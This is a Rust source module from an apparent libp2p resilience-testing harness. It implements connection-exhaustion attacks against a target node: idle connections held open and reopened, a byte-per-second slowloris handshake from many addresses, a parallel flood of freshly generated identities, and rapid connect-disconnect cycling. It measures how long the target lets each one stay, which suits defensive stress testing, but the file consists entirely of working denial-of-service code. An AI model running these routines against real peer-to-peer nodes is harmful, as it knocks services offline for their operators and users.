//! Attacks at the door, by who is nobody yet: connections that never become one, identities
//! without end, bytes that no implementation sends.

use std::net::IpAddr;
use std::time::Duration;

use futures::future::join_all;
use libp2p::identity::Keypair;
use libp2p::multiaddr::Multiaddr;
use serde_json::json;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::sync::mpsc;
use tokio::time::{Instant, sleep, timeout};

use crate::guest::Guest;
use crate::peer::Who;
use crate::report::say;
use crate::{Problem, Stage, peer, ways};

/// The first message of every connection: multistream-select, and what is wanted.
pub(crate) const HELLO: &[u8] = b"\x13/multistream/1.0.0\n\x07/noise\n";
/// Each of the idle comes back that long after it was closed: a thousand of them make 200
/// connections a second.
const COME_BACK: Duration = Duration::from_secs(5);
/// Between two bytes.
const SLOWLY: Duration = Duration::from_secs(1);
/// Longer than any handshake may take.
const AT_MOST: Duration = Duration::from_secs(60);
/// Identities at once: fewer than the handshakes that a host may have open.
const PARALLEL: u32 = 6;

/// Opens connections and says nothing on them; whichever is closed is opened again.
pub(crate) async fn idle(stage: &Stage, connections: usize) -> Result<(), Problem> {
    let (tell, mut open) = mpsc::channel(connections.max(1));
    for _ in 0..connections {
        let (victim, from, tell) = (stage.victim()?.clone(), stage.from, tell.clone());
        tokio::spawn(async move {
            loop {
                // A full queue means that the attack has begun.
                if let Ok(mut stream) = ways::socket(from, &victim).await {
                    tell.try_send(()).ok();
                    // One byte would be as good a reason to come again as the end.
                    stream.read_exact(&mut [0]).await.ok();
                }
                sleep(COME_BACK).await;
            }
        });
    }
    for _ in 0..connections {
        open.recv().await;
    }
    say(&json!({ "event": "began" }));
    crate::unwanted().await;
    Ok(())
}

/// From each of many addresses one handshake at a byte a second, until it is closed.
pub(crate) async fn drip(stage: &Stage, connections: u32) -> Result<(), Problem> {
    let victim = stage.victim()?;
    let mut streams = Vec::new();
    for number in 0..connections {
        streams.push(ways::socket(Some(ways::host(stage.from, number)), victim).await?);
    }
    say(&json!({ "event": "began" }));
    let lasted = join_all(streams.into_iter().map(slowly)).await;
    let seconds: Vec<f64> = lasted.iter().map(Duration::as_secs_f64).collect();
    say(&json!({ "event": "dripped", "seconds": seconds }));
    Ok(())
}

async fn slowly(mut stream: TcpStream) -> Duration {
    let (start, mut read) = (Instant::now(), vec![0; 1024]);
    for byte in HELLO.iter().cycle() {
        if start.elapsed() > AT_MOST || stream.write_all(&[*byte]).await.is_err() {
            break;
        }
        // What the other side says is read, so that it cannot complain.
        match timeout(SLOWLY, stream.read(&mut read)).await {
            Ok(Ok(1..)) => sleep(SLOWLY).await,
            Ok(_) => break,
            Err(_) => {}
        }
    }
    start.elapsed()
}

/// Comes with one fresh identity after the other, and says for how long each was let in.
pub(crate) async fn knock(stage: &Stage, count: u32) -> Result<(), Problem> {
    let (tell, mut heard) = mpsc::channel(1024);
    for task in 0..PARALLEL {
        let (victim, from, tell) = (stage.victim()?.clone(), stage.from, tell.clone());
        let share = count / PARALLEL + u32::from(task < count % PARALLEL);
        tokio::spawn(async move {
            for _ in 0..share {
                if tell.send(one(from, &victim).await).await.is_err() {
                    return;
                }
            }
        });
    }
    drop(tell);
    let (mut lasted, mut opened, mut stayed, mut refused) = (Vec::new(), 0, 0, 0);
    while let Some(visit) = heard.recv().await {
        match visit {
            Some((Some(time), streams)) => {
                lasted.push(time.as_secs_f64() * 1e3);
                opened += streams;
            }
            Some((None, streams)) => {
                stayed += 1;
                opened += streams;
            }
            None => refused += 1,
        }
    }
    lasted.sort_by(f64::total_cmp);
    let last = lasted.len().saturating_sub(1);
    let percent = |percent: usize| lasted.get(last * percent / 100);
    say(&json!({
        "event": "knocked",
        "closed": lasted.len(),
        // The handshake was not finished: there were too many from this address.
        "refused": refused,
        "stayed": stayed,
        "streams": opened,
        "median_ms": percent(50),
        "p99_ms": percent(99),
        "most_ms": percent(100),
    }));
    Ok(())
}

async fn one(from: Option<IpAddr>, victim: &Multiaddr) -> Option<(Option<Duration>, usize)> {
    let who = Who { keys: Keypair::generate_ed25519(), from };
    let guest = Guest::connect(&who, victim, &[]).await.ok()?;
    let lasted = guest.closed().await;
    Some((lasted, guest.opened()))
}

/// Comes and goes under one identity, so many times a second.
pub(crate) async fn flap(stage: &Stage, times: u32, pause: Duration) -> Result<(), Problem> {
    let who = Who { keys: peer::identity(stage.seed)?, from: stage.from };
    let (mut let_in, start) = (0, Instant::now());
    say(&json!({ "event": "began" }));
    for _ in 0..times {
        let_in += usize::from(Guest::connect(&who, stage.victim()?, &[]).await.is_ok());
        sleep(pause).await;
    }
    let seconds = start.elapsed().as_secs_f64();
    say(&json!({ "event": "flapped", "times": times, "let_in": let_in, "seconds": seconds }));
    Ok(())
}
